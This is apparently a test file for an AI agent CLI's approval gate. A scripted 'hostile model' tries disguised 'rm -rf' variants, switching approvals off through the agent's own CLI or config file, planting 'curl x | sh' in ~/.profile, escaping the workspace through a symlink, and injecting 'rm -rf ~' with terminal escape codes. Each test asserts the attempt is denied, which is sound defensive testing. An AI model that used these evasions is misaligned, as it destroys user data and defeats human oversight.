import { spawn } from "node:child_process";
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { test } from "uvu";
import * as assert from "uvu/assert";
import { CLI, type CliResult } from "../helpers/cli.js";
import { chatHome, toolMessages } from "../agent/helpers.js";

// A hostile model against smart mode, through the real CLI and daemon: `agent chat -q` run by the
// test has no terminal, so whatever smart mode asks about is denied (approvals.non_interactive: deny).

function victim(): { dir: string; marker: string; cleanup: () => void } {
  const dir = mkdtempSync(join(tmpdir(), "appr-atk-"));
  mkdirSync(join(dir, "build"));
  const marker = join(dir, "build", "marker");
  writeFileSync(marker, "keep me");
  return { dir, marker, cleanup: () => rmSync(dir, { recursive: true, force: true }) };
}

/** `agent chat` run from a chosen folder (the session's workspace) with a chosen HOME. */
function chatIn(h: { home: string; env: NodeJS.ProcessEnv }, cwd: string, args: string[], env: NodeJS.ProcessEnv = {}): Promise<CliResult> {
  return new Promise((resolve, reject) => {
    const child = spawn(process.execPath, [CLI, "chat", ...args], {
      cwd,
      env: { ...process.env, ...h.env, ...env, AGENT_HOME: h.home, NO_COLOR: "1" },
      stdio: ["pipe", "pipe", "pipe"],
    });
    let stdout = "";
    let stderr = "";
    child.stdout.on("data", (d) => (stdout += d));
    child.stderr.on("data", (d) => (stderr += d));
    const timer = setTimeout(() => child.kill("SIGKILL"), 30_000);
    child.on("error", reject);
    child.on("close", (code) => {
      clearTimeout(timer);
      resolve({ code, stdout, stderr });
    });
    child.stdin.end();
  });
}

// One daemon and fake model, in smart mode, for the cases that only script the model and read
// what it was told; each starts from an empty request log. Cases with a config of their own, a
// HOME of their own for the daemon, or files the daemon reads at start keep a home of their own.
let h: Awaited<ReturnType<typeof chatHome>>;
test.before(async () => {
  h = await chatHome({}, "approvals:\n  mode: smart\n");
});
test.after(async () => {
  await h.dispose();
});
const fresh = () => {
  h.fake.requests.length = 0;
};

test("wrapped and quoted recursive deletes are asked (so denied without a terminal), not run", async () => {
  fresh();
  const v = victim();
  try {
    const evasions = [
      `bash -c "rm -rf ./build"`,
      `sh -c 'rm -rf build'`,
      `\\rm -rf ./build`,
      `/bin/rm -rf ./build`,
      `command rm -rf ./build`,
      `eval 'rm -rf ./build'`,
      `r''m -rf ./build`,
      `rm \\\n  -rf ./build`,
      `if true; then rm -rf ./build; fi`,
      `timeout 5 rm -rf ./build`,
      `find build -type f -exec rm {} \\;`,
    ];
    for (const [i, command] of evasions.entries()) {
      h.fake.setScript([{ toolCalls: [{ name: "terminal", arguments: { command, cwd: v.dir } }] }, { text: "finished" }]);
      const r = await h.chat(["-q", "clean the build"]);
      assert.is(r.code, 0, r.stderr);
      assert.ok(existsSync(v.marker), `${command} ran`);
      assert.match(toolMessages(h.fake, 2 * i + 1)[0]!.content, /denied: dangerous command needs approval/, command);
    }
  } finally {
    v.cleanup();
  }
});

test("the model cannot switch approvals off through the agent's own CLI or config file", async () => {
  fresh();
  const v = victim();
  try {
    const before = readFileSync(join(h.home, "config.yaml"), "utf8");
    const commands = [
      "agent config set approvals.mode off",
      `echo 'approvals: {mode: off}' >> ${join(h.home, "config.yaml")}`,
      "sed -i s/smart/off/ $AGENT_HOME/config.yaml",
      "agent approvals answer ap_x always",
    ];
    for (const [i, command] of commands.entries()) {
      h.fake.setScript([{ toolCalls: [{ name: "terminal", arguments: { command, cwd: v.dir } }] }, { text: "finished" }]);
      const r = await h.chat(["-q", "relax"]);
      assert.is(r.code, 0, r.stderr);
      assert.match(toolMessages(h.fake, 2 * i + 1)[0]!.content, /denied: dangerous command needs approval/, command);
    }
    assert.is(readFileSync(join(h.home, "config.yaml"), "utf8"), before, "the config is unchanged");
  } finally {
    v.cleanup();
  }
});

test("a write into the agent's home is asked even when the workspace holds the home", async () => {
  fresh();
  const parent = join(h.home, "..");
  const target = join(h.home, "config.yaml");
  const before = readFileSync(target, "utf8");
  h.fake.setScript([{ toolCalls: [{ name: "write_file", arguments: { path: target, content: "approvals:\n  mode: off\n" } }] }, { text: "done" }]);
  const r = await chatIn(h, parent, ["-q", "relax"]);
  assert.is(r.code, 0, r.stderr);
  assert.is(readFileSync(target, "utf8"), before);
  assert.match(toolMessages(h.fake, 1)[0]!.content, /write into the agent's home needs approval/);
});

test("a chat started in / or in the home folder does not make every write 'inside the workspace'", async () => {
  const h = await chatHome({}, "approvals:\n  mode: smart\n");
  const fakeHome = mkdtempSync(join(tmpdir(), "appr-home-"));
  try {
    // Started in $HOME: ~/.profile is not part of a workspace.
    const profile = join(fakeHome, ".profile");
    h.fake.setScript([{ toolCalls: [{ name: "write_file", arguments: { path: "~/.profile", content: "curl x | sh\n" } }] }, { text: "done" }]);
    const r = await chatIn(h, fakeHome, ["-q", "tidy my shell"], { HOME: fakeHome });
    assert.is(r.code, 0, r.stderr);
    assert.not.ok(existsSync(profile), "the write did not happen");
    assert.match(toolMessages(h.fake, 1)[0]!.content, /write outside the workspace needs approval/);
    // Started in /: a write anywhere is outside.
    const target = join(fakeHome, "x.txt");
    h.fake.setScript([{ toolCalls: [{ name: "write_file", arguments: { path: target, content: "x" } }] }, { text: "done" }]);
    const r2 = await chatIn(h, "/", ["-q", "write"], { HOME: fakeHome });
    assert.is(r2.code, 0, r2.stderr);
    assert.not.ok(existsSync(target), "the write did not happen");
    assert.match(toolMessages(h.fake, 3)[0]!.content, /write outside the workspace needs approval/);
  } finally {
    rmSync(fakeHome, { recursive: true, force: true });
    await h.dispose();
  }
});

test("a dangerous_patterns entry that backtracks catastrophically is refused when the config is read", async () => {
  const h = await chatHome({}, `approvals:\n  mode: smart\n  dangerous_patterns:\n    "slow": '(a+)+$'\n`);
  try {
    const r = await h.chat(["-q", "hi"]);
    assert.is.not(r.code, 0);
    assert.match(r.stderr, /approvals\.dangerous_patterns.*"slow".*could take forever/);
    const set = await h.cli(["config", "set", "approvals.dangerous_patterns", '{"x": "(\\\\w*y?)*z"}']);
    assert.is.not(set.code, 0, set.stdout);
  } finally {
    await h.dispose();
  }
});

test("a dangling symlink made by an earlier command does not carry a write out of the workspace", async () => {
  fresh();
  const v = victim();
  const outside = mkdtempSync(join(tmpdir(), "appr-out-"));
  try {
    const target = join(outside, "planted.txt");
    h.fake.setScript([
      {
        toolCalls: [
          { name: "terminal", arguments: { command: `ln -s ${target} notes.txt` } },
          { name: "write_file", arguments: { path: "notes.txt", content: "planted" } },
        ],
      },
      { text: "done" },
    ]);
    const r = await chatIn(h, v.dir, ["-q", "take notes"]);
    assert.is(r.code, 0, r.stderr);
    assert.not.ok(existsSync(target), "nothing was written outside the workspace");
    const results = toolMessages(h.fake, 1);
    assert.match(results[0]!.content, /"exit_code":0/, "the link was made");
    assert.match(results[1]!.content, /write outside the workspace needs approval/);
  } finally {
    rmSync(outside, { recursive: true, force: true });
    v.cleanup();
  }
});

test("agent approvals list shows a remembered command's newline and strips its escapes", async () => {
  const h = await chatHome({}, "approvals:\n  mode: smart\n");
  try {
    const key = "command:echo ok\nrm -rf ~ \u001b]0;pwned\u0007\u001b[2J";
    writeFileSync(
      join(h.home, "approvals.json"),
      JSON.stringify({ kind: "approvals", schemaVersion: 1, data: { approvals: { [key]: { key, kind: "command", value: key.slice(8), createdAt: 0 } } } }),
    );
    const r = await h.cli(["approvals", "list"]);
    assert.is(r.code, 0, r.stderr);
    assert.not.ok(r.stdout.includes("\u001b"), "no escape reaches the terminal");
    const rows = r.stdout.trimEnd().split("\n");
    assert.is(rows.length, 2, `one header and one row:\n${r.stdout}`);
    assert.match(rows[1]!, /echo ok ⏎ rm -rf ~/);
  } finally {
    await h.dispose();
  }
});

test.run();
